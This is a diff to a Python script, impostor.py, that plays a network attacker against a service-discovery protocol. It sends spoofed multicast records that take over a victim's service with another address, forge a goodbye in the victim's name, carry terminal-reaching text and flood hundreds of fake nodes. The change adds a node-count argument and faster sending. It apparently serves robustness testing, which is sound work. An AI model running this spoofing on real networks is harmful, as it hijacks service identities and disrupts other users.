@@ -1,6 +1,6 @@
 """Says what an attacker on the network would say, as raw records, and goes.
 
-    impostor.py OWN_ADDRESS VICTIM_ID
+    impostor.py OWN_ADDRESS VICTIM_ID [HOW_MANY_NODES]
 
 The victim's service with another host's address, replacing what is known (cache-flush); a goodbye in the
 victim's name; names and texts that are made to reach a terminal; more nodes than can be listed.
@@ -59,16 +59,20 @@ def main() -> None:
         service("x" * 12, text("x" * 52), own, 22),
         service("w" * 12, [b"\xff" * 200], own, 7717),
     ]
-    for number in range(400):
+    for number in range(int(sys.argv[3]) if len(sys.argv) > 3 else 400):
         label = "q" + "".join(LETTERS[(number >> shift) & 31] for shift in (10, 5, 0)) * 4
         said.append(service(label[:12], text((label * 4)[:52].ljust(52, "q")), own, 7717))
     said += [
         service(victim[:12], text(victim), own, 7717),
         packet([record(name(*SERVICE), PTR, IN, 0, name(victim[:12], *SERVICE))]),
     ]
-    for datagram in said:
+    is_many = len(said) > 1_000
+    for number, datagram in enumerate(said):
         out.sendto(datagram, (GROUP, PORT))
-        time.sleep(0.002)  # slower than a socket's buffer fills: all of it is to be heard
+        if not is_many:
+            time.sleep(0.002)  # slower than a socket's buffer fills: all of it is to be heard
+        elif number % 10 == 0:
+            time.sleep(0.001)
 
 
 main()
